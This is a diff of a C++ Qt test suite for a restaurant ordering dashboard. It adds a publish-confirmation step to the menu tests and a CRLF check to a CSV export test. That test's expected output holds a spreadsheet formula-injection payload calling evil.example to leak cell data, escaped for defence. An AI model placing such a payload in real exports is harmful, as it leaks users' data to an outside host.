@@ -45,6 +45,8 @@ private slots:
 private:
     void placeOrder(int table, qint64 item, int quantity);
     void shoot(const QString &name);
+    /// "Save and publish" shows what will change first; its button publishes.
+    void confirmPublish();
     qint64 edgePrice(qint64 itemId);
     /// The newest menu HQ published for the store, exactly as the linked edge receives it
     /// (MenuUpdate.menu_json of /sync/v1/menu).
@@ -103,6 +105,13 @@ void TestDashboard::shoot(const QString &name)
     const QString dir = QStringLiteral(TABLEORDER_SOURCE_DIR) + u"/docs/screenshots"_s;
     QDir().mkpath(dir);
     QVERIFY2(m_browser.screenshot(dir + u'/' + name + u".png"_s), qPrintable(m_browser.errorString()));
+}
+
+void TestDashboard::confirmPublish()
+{
+    QVERIFY2(m_browser.waitFor(u"document.querySelector('#publish-confirm')"_s),
+             qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status').textContent"_s).toString()));
+    m_browser.evaluate(u"document.querySelector('#publish-confirm').click(); true"_s);
 }
 
 qint64 TestDashboard::edgePrice(qint64 itemId)
@@ -420,6 +429,7 @@ void TestDashboard::priceEditReachesTheEdge()
     QVERIFY(m_browser.waitFor(u"document.querySelector('[name=price-1]')"_s));
     m_browser.evaluate(uR"(const input = document.querySelector('[name=price-1]');
                            input.value = '9900'; document.querySelector('#menu-save').click(); true)"_s);
+    confirmPublish();
     QTRY_COMPARE_WITH_TIMEOUT(edgePrice(1), 9900, 5'000);
 }
 
@@ -452,6 +462,7 @@ void TestDashboard::newItemWithPictureReachesTheEdge()
                                10'000),
              qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status').textContent"_s).toString()));
     m_browser.evaluate(u"document.querySelector('#menu-save').click(); true"_s);
+    confirmPublish();
 
     QString url;
     QTRY_VERIFY_WITH_TIMEOUT(([&] {
@@ -530,6 +541,7 @@ void TestDashboard::optionGroupEditorPublishes()
         details.querySelector('.item-hours').value = '1-5 11:00-14:00';
         return true; })())"_s);
     m_browser.evaluate(u"document.querySelector('#menu-save').click(); true"_s);
+    confirmPublish();
 
     // Saved at HQ: the working menu carries all of it.
     QJsonObject item;
@@ -607,6 +619,7 @@ void TestDashboard::categoryTranslationsAndHoursReachTheEdge()
         box.querySelector('.cat-hours').value = '6,7 10:00-22:00';
         document.querySelector('#menu-save').click();
         return true; })())"_s);
+    confirmPublish();
 
     QJsonObject category;
     QTRY_VERIFY_WITH_TIMEOUT(([&] {
@@ -765,7 +778,9 @@ void TestDashboard::csvExportNeutralisesFormulas()
         { key: '\tTAB', orders: 5, total: 0 },
         { key: '\rCR', orders: 6, total: 0 },
         { key: '김치찌개 "special"', orders: 7, total: 9000 }]))"_s).toString();
-    const QStringList lines = csv.split(u'\n');
+    // Excel's line ends (CRLF), the last line ended too.
+    QVERIFY(csv.endsWith(u"\r\n"_s));
+    const QStringList lines = csv.chopped(2).split(u"\r\n"_s);
     QCOMPARE(lines.size(), 8);
     QCOMPARE(lines.at(0), uR"("key","orders","total")"_s);
     QCOMPARE(lines.at(1), uR"csv("'=HYPERLINK(""http://evil.example/?""&A1)","1","1000")csv"_s);
